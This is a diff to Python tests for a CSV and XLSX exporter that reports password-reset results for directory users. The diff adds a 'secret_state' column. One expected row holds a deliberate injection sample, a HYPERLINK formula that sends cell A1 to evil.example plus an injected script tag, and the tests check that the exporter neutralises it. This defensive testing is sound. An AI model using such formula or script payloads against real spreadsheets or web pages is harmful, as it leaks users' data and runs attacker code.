@@ -44,14 +44,14 @@ def test_csv_has_a_bom_crlf_every_field_and_neutralised_cells(run_dir: Path) -> 
     assert lines[0] == (
         "item,upn,object_id,display_name,action,status,verified,reason,planned,http_status,"
         "error_code,error_message,request_id,attempts,started,finished,verified_at,secret_ref,"
-        "confirmed_by,ticket,target_ticket,note"
+        "secret_state,confirmed_by,ticket,target_ticket,note"
     )
     assert len(lines) == 14 and lines[-1] == ""
     assert lines[4] == (
         "4,alex.wilber@contoso.com,00000000-0000-0000-0000-000000000002,Alex Wilber,"
         "reset_password,failed,,,will reset password,403,Authorization_RequestDenied,"
         "Insufficient privileges to complete the operation.,req-4,1,"
-        "2026-03-01T09:00:00.008000Z,2026-03-01T09:00:00.009000Z,,4:1,,INC-4821,,"
+        "2026-03-01T09:00:00.008000Z,2026-03-01T09:00:00.009000Z,,4:1,never set,,INC-4821,,"
         '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")</script><script>alert(1)'
         '</script>"'
     )
@@ -217,7 +217,7 @@ def test_xlsx_neutralises_text_and_keeps_numbers(run_dir: Path) -> None:
     row = {name: cell for name, cell in zip(header, items[5], strict=True)}
     assert row["note"].value == "'" + EVIL_NOTE and row["note"].data_type == "s"
     assert (row["item"].value, row["http_status"].value, row["attempts"].value) == (4, 403, 1)
-    assert items.freeze_panes == "A2" and items.auto_filter.ref == "A1:V13"
+    assert items.freeze_panes == "A2" and items.auto_filter.ref == "A1:W13"
     summary = {r[0].value: r[1].value for r in book["Summary"].iter_rows(min_row=2)}
     assert summary["outcome"] == (
         "finished with failures (exit 1): 1 unknown, 1 failed (the report says which)"
